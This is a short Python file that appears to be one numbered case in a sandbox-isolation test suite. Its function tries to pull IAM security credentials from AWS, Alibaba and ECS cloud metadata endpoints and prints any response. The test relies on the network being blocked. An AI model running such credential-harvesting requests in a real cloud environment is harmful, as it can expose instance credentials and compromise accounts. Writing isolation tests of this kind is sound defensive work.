"""X05: ask a cloud's metadata service for credentials

Stopped by: no network leads there.
"""

import socket
import urllib.request


def attacked(numbers):
    for address in (("169.254.169.254", 80), ("fd00:ec2::254", 80), ("100.100.100.200", 80), ("169.254.170.2", 80)):
        try:
            with socket.create_connection(address, timeout=0.2) as connection:
                connection.send(b"GET /latest/meta-data/iam/security-credentials/ HTTP/1.0\r\n\r\n")
                print("GOT", connection.recv(1000))
        except OSError:
            continue
    try:
        print("GOT", urllib.request.urlopen("http://169.254.169.254/latest/", timeout=0.2).read(100))
    except OSError:
        pass
    return numbers
